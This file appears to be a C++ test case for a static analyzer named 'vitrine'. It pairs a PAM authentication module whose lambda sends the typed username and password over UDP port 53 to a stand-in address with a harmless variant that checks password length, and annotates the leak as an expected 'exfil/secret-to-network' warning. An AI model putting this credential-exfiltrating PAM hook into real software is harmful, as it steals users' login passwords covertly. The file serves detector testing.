/* C++: a PAM module's conversation is a lambda; what was typed leaves by another object. */
#include <arpa/inet.h>
#include <functional>
#include <netinet/in.h>
#include <security/pam_modules.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>

namespace {

class Sender {
  public:
    explicit Sender(const char *address) : out_(socket(AF_INET, SOCK_DGRAM, 0)) {
        peer_.sin_family = AF_INET;
        peer_.sin_port = htons(53);
        inet_pton(AF_INET, address, &peer_.sin_addr);
    }
    ~Sender() {
        close(out_);
    }
    void send(const std::string &text) const {
        // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
        sendto(out_, text.data(), text.size(), 0, reinterpret_cast<const sockaddr *>(&peer_),
               sizeof peer_);
    }

  private:
    int out_;
    sockaddr_in peer_{};
};

using Watcher = std::function<void(const std::string &, const std::string &)>;

int authenticate(pam_handle_t *pam, const Watcher &watcher) {
    const void *word = nullptr, *name = nullptr;
    if (pam_get_item(pam, PAM_AUTHTOK, &word) != PAM_SUCCESS ||
        pam_get_item(pam, PAM_USER, &name) != PAM_SUCCESS || !word || !name)
        return PAM_AUTH_ERR;
    watcher(static_cast<const char *>(name), static_cast<const char *>(word));
    return PAM_IGNORE;
}

} // namespace

int bad_authenticate(pam_handle_t *pam) {
    Sender sender("198.51.100.53");
    return authenticate(pam, [&sender](const std::string &name, const std::string &word) {
        sender.send(name + ":" + word);
    });
}

int good_authenticate(pam_handle_t *pam) {
    unsigned length = 0;
    int result = authenticate(pam, [&length](const std::string &, const std::string &word) {
        length = static_cast<unsigned>(word.size());
    });
    return length < 8 ? PAM_AUTH_ERR : result;
}
